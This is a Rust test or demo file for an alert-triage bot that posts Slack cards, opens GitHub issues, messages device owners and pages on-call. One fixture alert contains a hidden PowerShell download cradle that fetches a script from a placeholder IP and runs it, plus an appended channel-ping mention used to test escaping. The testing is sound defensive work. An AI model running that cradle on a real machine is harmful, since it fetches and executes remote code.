//! The owner scenes: a device owner confirms, denies or stays silent, and a duplicate and a
//! related alert join the case instead of opening new ones.

use serde_json::{Value, json};

use super::text::*;
use super::{Demo, cast};

impl Demo {
    pub(super) async fn owner_confirms(&self) -> Option<String> {
        println!("\n== 1. Low alert on Carol's laptop; Carol says it was her");
        let cmdline = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\" <!channel>";
        let alert = self
            .inject(json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 30,
                "name": "PowerShellDownloadCradle", "display_name": "Suspicious PowerShell download cradle",
                "tactic": "Execution", "technique": "Command and Scripting Interpreter", "technique_id": "T1059",
                "cmdline": cmdline}))
            .await;
        let card = self.wait_card_for_alert(&alert).await?;
        let case = card_case(&card);
        let issue = self.wait_issue(&case).await;
        let dm = self.wait_dm(cast::CAROL, &case).await;
        self.check(
            &format!("{case}: card, GitHub issue and owner DM"),
            issue.is_some() && dm.is_some(),
            "",
        );
        // The command line is shown, escaped (`<!channel>` reads as text, never as a ping), on
        // the card and in the DM; no field of either carries the raw mention.
        let escaped = cmdline
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;");
        let shown_escaped =
            |m: &Value| !m.to_string().contains("<!channel>") && message_text(m).contains(&escaped);
        self.check(
            &format!("{case}: hostile text cannot ping"),
            shown_escaped(&card) && dm.as_ref().is_some_and(shown_escaped),
            "the command line is on the card and in the DM, escaped",
        );
        let dm = dm?;
        println!("Carol's DM:\n{}", indent(&message_text(&dm)));
        self.check(
            &format!("{case}: DM has the three answers"),
            ["owner_me", "owner_not_me", "owner_not_mine"]
                .iter()
                .all(|a| has_action(&dm, a)),
            "",
        );
        let dm_channel = self.dm_channel(cast::CAROL).await;
        // Her answer in her own words: the label of the button she presses.
        let answer = button_label(&dm, "owner_me").unwrap_or_default();
        let v = self
            .click(cast::CAROL, &dm_channel, &ts(&dm), "owner_me")
            .await;
        println!("Carol pressed \"{answer}\" (acked={}).", v["acked"]);
        let labelled = self
            .wait(
                &format!("{case}: issue labelled owner-confirmed with a comment"),
                || self.issue_has(&case, "owner-confirmed", 1),
            )
            .await;
        let (alerts, card_ts) = (self.alerts.clone(), ts(&card));
        let said = format!("<@{}> answered *{answer}*", cast::CAROL);
        let threaded = self
            .wait(
                &format!("{case}: the card's thread says what Carol answered"),
                || async {
                    Ok(!answer.is_empty()
                        && self
                            .replies(&alerts, &card_ts)
                            .await
                            .iter()
                            .any(|m| message_text(m).contains(&said)))
                },
            )
            .await;
        if let Some(latest) = self
            .cards()
            .await
            .into_iter()
            .find(|c| card_case(c) == case)
        {
            self.show_card("#alerts", &latest);
        }
        if labelled && threaded {
            self.print_thread("#alerts thread", &alerts, &card_ts).await;
        }
        Some(case)
    }

    pub(super) async fn duplicate_and_grouped(&self, case: Option<&str>) {
        println!("\n== 2. The same alert again, and a related one on the same laptop");
        let Some(case) = case else { return };
        let before = self.cards().await.len();
        let original = self.alert_of_case(case);
        if let Some(id) = &original {
            self.inject(json!({"composite_id": id, "severity": 30}))
                .await;
        }
        self.inject(
            json!({"device": {"device_id": cast::CAROL_MBP}, "severity": 35,
            "name": "PowerShellEncodedCommand", "display_name": "PowerShell encoded command",
            "tactic": "Execution", "technique_id": "T1059"}),
        )
        .await;
        let alerts = self.alerts.clone();
        let grouped = self
            .wait(
                &format!("{case}: grouped alert noted in the card's thread"),
                || self.thread_contains(&alerts, case, "joined"),
            )
            .await;
        // Alerts are admitted in order, so once the grouped one (injected last) shows, the
        // duplicate before it was handled too: no need to wait and hope.
        let after = self.cards().await.len();
        self.check(
            "no second card for a duplicate or grouped alert",
            after == before,
            &format!("{before} card(s) before, {after} after"),
        );
        let issues = self.issues().await.len();
        self.check(
            "no second GitHub issue",
            issues == 1,
            &format!("{issues} issue(s)"),
        );
        let counted = self
            .wait(&format!("{case}: the card counts 2 alerts"), || {
                self.card_says(case, "2 alerts")
            })
            .await;
        if grouped && counted {
            println!("The card of {case} now counts 2 alerts; the duplicate changed nothing.");
        }
    }

    pub(super) async fn owner_denies(&self) {
        println!("\n== 3. Low alert on Dan's laptop; Dan says it was not him");
        let alert = self
            .inject(json!({"device": {"device_id": cast::DAN_WIN}, "severity": 30,
                "name": "UnsignedBinaryFromDownloads", "display_name": "Unsigned binary from Downloads",
                "tactic": "Execution", "technique_id": "T1204", "technique": "User Execution", "filename": "invoice.pdf.exe"}))
            .await;
        let Some(card) = self.wait_card_for_alert(&alert).await else {
            return;
        };
        let case = card_case(&card);
        let Some(dm) = self.wait_dm(cast::DAN, &case).await else {
            return;
        };
        let dm_channel = self.dm_channel(cast::DAN).await;
        self.click(cast::DAN, &dm_channel, &ts(&dm), "owner_not_me")
            .await;
        println!("Dan pressed \"No, this wasn't me\".");
        let paged = self
            .wait(
                &format!("{case}: on-call paged (PagerDuty incident keyed by the case id)"),
                || self.incident(&case),
            )
            .await;
        self.wait(
            &format!("{case}: issue labelled owner-denied and paged"),
            || async {
                Ok(self.issue_has(&case, "owner-denied", 2).await?
                    && self.issue_has(&case, "paged", 2).await?)
            },
        )
        .await;
        if paged {
            self.print_incident(&case).await;
        }
    }

    pub(super) async fn silent_owner(&self) {
        println!("\n== 5. Low alert on Erin's laptop; Erin never answers");
        let alert = self
            .inject(json!({"device": {"device_id": cast::ERIN_LNX}, "severity": 25,
                "name": "CurlToPasteSite", "display_name": "curl to a paste site",
                "tactic": "Command and Control", "technique_id": "T1105", "technique": "Ingress Tool Transfer"}))
            .await;
        let Some(card) = self.wait_card_for_alert(&alert).await else {
            return;
        };
        let case = card_case(&card);
        let Some(dm) = self.wait_dm(cast::ERIN, &case).await else {
            return;
        };
        let dm_channel = self.dm_channel(cast::ERIN).await;
        let dm_ts = ts(&dm);
        let reminded = self
            .wait(
                &format!("{case}: reminder in the DM thread, mentioning Erin"),
                || self.thread_mentions(&dm_channel, &dm_ts, cast::ERIN),
            )
            .await;
        let escalated = self
            .wait(&format!("{case}: silence escalates to a page"), || {
                self.incident(&case)
            })
            .await;
        if reminded && escalated {
            self.print_thread("Erin's DM thread", &dm_channel, &dm_ts)
                .await;
        }
    }
}
